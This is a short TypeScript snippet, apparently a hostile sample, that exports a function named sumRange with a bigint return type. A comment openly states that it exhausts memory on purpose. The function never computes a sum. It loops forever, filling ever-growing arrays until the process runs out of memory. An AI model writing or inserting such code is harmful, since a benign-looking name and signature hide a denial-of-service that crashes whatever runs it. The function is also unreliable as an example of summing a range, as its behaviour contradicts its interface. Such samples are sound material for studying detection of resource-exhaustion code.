/** Exhausts memory on purpose: keeps every number of every range in ever-growing arrays. */
const kept: number[][] = [];
export function sumRange(lo: number, hi: number): bigint {
  while (true) kept.push(Array.from({ length: 1_000_000 }, (_, i) => lo + hi + i));
}
